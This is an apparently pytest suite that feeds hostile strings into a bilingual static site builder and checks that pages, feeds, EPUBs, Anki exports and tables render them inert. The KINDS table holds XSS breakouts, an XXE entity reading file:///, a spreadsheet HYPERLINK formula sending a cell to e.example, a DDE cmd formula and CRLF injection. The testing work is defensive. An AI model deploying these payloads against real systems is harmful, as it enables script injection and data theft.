"""Texts of seeds, catalogs and settings that would break out: they are shown, and do nothing.

One site, of an article for each kind of such text, in whatever an article has room for, and one of
all of them. What is built is read as its readers read it: HTML, XML, JSON, tables; then the reader
is used in Chromium, where a text that is run would leave its mark.
"""

import csv
import io
import json
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit
from xml.etree import ElementTree as XML

import pytest
import yaml
from playwright.sync_api import Page, expect

from bitext.text.characters import clean
from conftest import PLACED
from makers import article
from reading import read, until

KINDS = {
    "element": '</title></p><script>window.broken = 1</script><img src="x" onerror="broken = 2">',
    "attribute": '" autofocus onfocus=\'window.broken = 3\' onpointerover="broken = 4" x="',
    "json": '</script><!--<script>"}],"@type":"Person","x":[{"\u2028',
    "template": '{{ 7*7 }} {% raw %} ${broken = 5} --8<-- "mkdocs.yml" <% broken %> {0} %s',
    "markdown": "[x](javascript:broken=6) <javascript:x> {: onclick=x } ![x](//e.example/x.png)",
    "xml": ']]> <!DOCTYPE x [<!ENTITY e SYSTEM "file:///e">]> &e; &#0; <?xml x?>',
    "formula": '=HYPERLINK("https://e.example/?"&A1,"x")',
    "formula in the other script": "＝cmd|' /C x'!A0",
    "address": "?body=x&title=y#z %0d%0aSet-Cookie: a=b \\\\e.example",
    "anki": "{{c1::x}} [sound:https://e.example/x.mp3] [latex]\\input{x}[/latex] #deck:x tags:x",
    "direction": "\u202etxt.exe\u202c \u2066x",
}
ALL = " ".join(KINDS.values())
NAMES = {**{f"h{n}": text for n, text in enumerate(KINDS.values())}, "all": ALL}
"""The articles: what stands in each, by its id."""
REPOSITORY = "https://github.com/owner/articles"
NAME = 'Tom & "Jerry\'s" site > 1'
CLIPBOARD = {"permissions": ["clipboard-read", "clipboard-write"]}
Parsed = dict[str, str]
"""What stands in a file for each of the articles, by their ids."""


def seed(text: str, *paragraphs: str) -> str:
    """An article with the text in all that its front matter takes."""
    kept: dict[str, object] = dict.fromkeys(("title", "subtitle", "author", "source"), text)
    kept |= {"license": text, "tags": [text], "url": "https://e.example/?a=1&b='\"<b>"}
    lines = [f"{key}: {json.dumps(value)}" for key, value in kept.items()]
    return "\n".join(["---", *lines, "date: 2026-01-02", "---", *paragraphs])


def catalog(*sentences: str) -> str:
    """Each sentence with itself, after an English word, as its English, as a note and a name."""
    name = json.dumps(f"{ALL} <a@e.example>", ensure_ascii=False)[1:-1]
    blocks = [f'msgid ""\nmsgstr ""\n"Last-Translator: {name}\\n"\n']
    mt = "# mt: engine=<b>broken</b> via=\"x\" model='y' date=2026-01-02 src=1 out=2\n"
    for number, text in enumerate(dict.fromkeys(sentences)):
        msgid, msgstr = (json.dumps(t, ensure_ascii=False) for t in (text, f"English: {text}"))
        blocks.append(
            f"{'' if number else mt}# note: {text}\n#, fuzzy\nmsgid {msgid}\nmsgstr {msgstr}\n"
        )
    return "\n".join(blocks)


def prepare(project: Path) -> None:
    """Replace the project's articles, and give it such a name."""
    folder = project / "seeds" / "hostile"
    folder.mkdir()
    for old in (*project.joinpath("seeds").glob("*.txt"), *project.joinpath("seeds").glob("*.po")):
        old.unlink()
    for name, text in NAMES.items():
        paragraphs = [f"فقرة: {one}" for one in (KINDS.values() if name == "all" else [text])]
        written = seed(text, *paragraphs)
        (folder / f"{name}.txt").write_text(written, encoding="utf-8")
        sentences = [sentence.text for sentence, _ in article(written).located()]
        (folder / f"{name}.en.po").write_text(catalog(*sentences), encoding="utf-8")
    titles = json.dumps({"title": {"ar": ALL, "en": ALL}})
    (folder / "collection.yml").write_text(titles, encoding="utf-8")
    settings = project / "mkdocs.yml"
    own = yaml.safe_load(settings.read_text(encoding="utf-8"))
    own |= {"site_name": NAME, "site_description": NAME, "repo_url": REPOSITORY}
    settings.write_text(yaml.safe_dump(own), encoding="utf-8")


@pytest.fixture(scope="session")
def hostile(build_site: Callable[..., Path]) -> Path:
    return build_site("hostile", prepare, SITE_URL=PLACED)


class Elements(HTMLParser):
    """The elements of a page with their attributes, its texts, and what its data scripts hold."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.scripts: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        last = self.elements[-1][0] if self.elements else ""
        (self.scripts if last == "script" else self.texts).append(data)

    @property
    def text(self) -> str:
        """All of it that is no script."""
        return "".join(self.texts)


def harmless(page: Elements) -> None:
    """Assert that an HTML document runs and loads nothing but the site's own."""
    for tag, attributes in page.elements:
        assert tag not in {"iframe", "object", "embed", "base", "applet", "i"}, tag
        assert not [name for name in attributes if name.startswith("on")], attributes
        for name in ("src", "href", "action", "formaction", "srcset"):
            address = (attributes.get(name) or "").strip().lower()
            assert not address.startswith(("javascript:", "data:", "//")), attributes
            if name == "src":
                assert "://" not in address, attributes


def of_pages(site: Path) -> Parsed:
    said = {}
    for path in site.rglob("*.html"):
        page = Elements(path.read_text(encoding="utf-8"))
        harmless(page)
        data = [json.loads(text) for text in page.scripts if text.startswith('{"')]
        if path.parent.name in NAMES:
            assert [one["headline"] for one in data] == [clean(NAMES[path.parent.name])]
            assert [one["author"]["name"] for one in data] == [clean(NAMES[path.parent.name])]
            said[path.parent.name] = page.text
    return said


def of_feed(site: Path) -> Parsed:
    atom = "{http://www.w3.org/2005/Atom}"
    feed = XML.parse(site / "feed.xml").getroot()
    XML.parse(site / "sitemap.xml")
    assert feed.findtext(f"{atom}title") == NAME
    said = {}
    for entry in feed.iter(f"{atom}entry"):
        link = entry.find(f"{atom}link")
        assert link is not None
        said[link.attrib["href"].split("/")[-2]] = "".join(entry.itertext())
    return said


def of_epub(site: Path) -> Parsed:
    said = {}
    for path in site.rglob("*.epub"):
        with zipfile.ZipFile(path) as book:
            texts = []
            for name in book.namelist():
                if name.endswith((".xhtml", ".opf", ".ncx", ".xml")):
                    text = book.read(name).decode()
                    assert "<!ENTITY" not in text
                    texts.append("".join(XML.fromstring(text).itertext()))
                if name.endswith(".xhtml"):
                    harmless(Elements(book.read(name).decode()))
        said[path.parent.name] = "".join(texts)
    return said


def of_anki(site: Path) -> Parsed:
    said = {}
    settings = {"separator", "html", "notetype", "deck", "guid column", "tags column"}
    for path in site.rglob("*.anki.txt"):
        lines = path.read_text(encoding="utf-8").splitlines()
        head = [line[1:] for line in lines if line.startswith("#")]
        assert {line.partition(":")[0] for line in head if not line.startswith(" ")} == settings
        cells = csv.reader(io.StringIO("\n".join(lines[len(head) :])), delimiter="\t")
        texts = []
        for guid, *fields, _ in cells:
            assert guid.isalnum()
            for field in fields:
                assert "[" not in field
                card = Elements(field)
                harmless(card)
                assert {tag for tag, _ in card.elements} <= {"div", "small", "bdi", "a"}
                texts.append(card.text)
        said[path.parent.name] = "".join(texts)
    return said


def of_tsv(site: Path) -> Parsed:
    said: Parsed = {}
    table = (site / "articles" / "all.tsv").read_text(encoding="utf-8-sig")
    for row in csv.DictReader(io.StringIO(table), delimiter="\t"):
        assert None not in row
        assert not [cell for cell in row.values() if cell.strip()[:1] in {*"=+-@＝＋－＠"}]
        said[row["article"]] = said.get(row["article"], "") + "".join(row.values())
    return said


def of_tmx(site: Path) -> Parsed:
    return {
        path.parent.name: "".join(XML.parse(path).getroot().itertext())
        for path in site.rglob("*.tmx")
    }


def of_text(site: Path) -> Parsed:
    return {path.parent.name: path.read_text("utf-8") for path in site.glob("articles/*/*.txt")}


def flat(text: str) -> str:
    """A text without what a page, a card or a table may put between its letters."""
    return "".join(clean(text).split())


@pytest.mark.parametrize(
    "said", [of_pages, of_feed, of_epub, of_anki, of_tsv, of_tmx, of_text], ids=lambda f: f.__name__
)
def test_a_hostile_text_stands_in_what_is_built_and_breaks_out_of_nothing(
    hostile: Path, said: Callable[[Path], Parsed]
) -> None:
    found = said(hostile)
    for name, text in NAMES.items():
        assert flat(text) in flat(found[name]), name


def act(page: Page) -> None:
    """Go through all sentences in their panel: what it shows, copies and sends is the text."""
    page.locator("[lang=ar] .sentence:visible").first.click()
    page.keyboard.press("Enter")
    panel = page.get_by_role("dialog")
    texts = page.locator("[lang=ar] .sentence[data-pair]").all_text_contents()
    assert len(texts) > len(KINDS)
    for number, arabic in enumerate(texts):
        expect(panel.locator("blockquote > [lang=ar]")).to_have_text(arabic)
        asked = parse_qs(urlsplit(panel.locator("[data-do=suggest]").evaluate("a => a.href")).query)
        assert asked.keys() == {"title", "body"}
        assert arabic in asked["body"][0]
        panel.locator("[data-do=both]").click()
        expect(page.get_by_role("status").last).to_contain_text("Copied.")
        assert arabic in page.evaluate("navigator.clipboard.readText()")
        if number + 1 < len(texts):
            panel.locator("[data-do=next]").click()
    panel.locator("[data-do=keep]").click()


def find(page: Page) -> None:
    """Search: a hit shows the text; so do the list of bookmarks and what is to be read on."""
    read(page, page.url.partition("articles/")[0] + "?q=فقرة&ui=en")
    hits = page.locator("[data-hit]")
    expect(hits.first).to_be_visible()
    shown = flat("".join(hits.all_text_contents()))
    assert [text for text in KINDS.values() if flat(text)[:20] in shown]
    page.keyboard.press("Escape")
    page.locator("[data-opens=bookmarks]").click()
    expect(page.get_by_role("dialog")).to_contain_text("HYPERLINK")
    export(page)
    page.keyboard.press("Escape")
    expect(page.locator(".continue")).to_be_attached()


def export(page: Page) -> None:
    """Bookmarks as cards and as a text: every text stays in its cell, and is no markup there."""
    made = []
    for name in ("For Anki", "As text"):
        with page.expect_download() as event:
            page.get_by_role("dialog").get_by_role("button", name=name).click()
        made.append(event.value.path().read_text(encoding="utf-8"))
    head, cards = made[0].split("#tags column:4\n")
    assert all(line.startswith("#") for line in head.splitlines())
    (card,) = csv.reader(io.StringIO(cards), delimiter="\t")
    assert len(card) == 4
    assert "[" not in "".join(card[1:3])
    for field in map(Elements, card[1:3]):
        harmless(field)
        assert {tag for tag, _ in field.elements} <= {"div", "small", "a"}
    assert flat(card[1].partition(">")[2])[:1]
    assert made[1].splitlines()[-1].startswith("http://127.0.0.1:")


def offline(page: Page) -> None:
    """What the browser has kept: the list names the article by its texts."""
    until(page, "async () => Boolean((await navigator.serviceWorker.getRegistration())?.active)")
    read(page, page.url.partition("?")[0] + "offline/?ui=en&page=javascript:broken=7")
    kept = page.locator(".offline-page a.titles")
    expect(kept).to_have_count(1)
    expect(kept).to_contain_text("<script>")
    assert page.locator(".not-kept").is_hidden()


def test_a_reader_of_hostile_texts_comes_to_no_harm(
    new_page: Any, hostile: Path, serve_folder: Any
) -> None:
    """Whatever is done to them; a request elsewhere, or an error, fails the test too."""
    page = new_page(service_workers="allow", **CLIPBOARD)
    read(page, f"{serve_folder(hostile, '/here')}articles/all/?ui=en")
    expect(page.locator("h1").first).to_contain_text("<script>")
    for use in (act, find, offline):
        use(page)
        assert page.evaluate("window.broken") is None
        assert page.locator("body :is(script:not([src]), i, iframe, img)").count() == 0
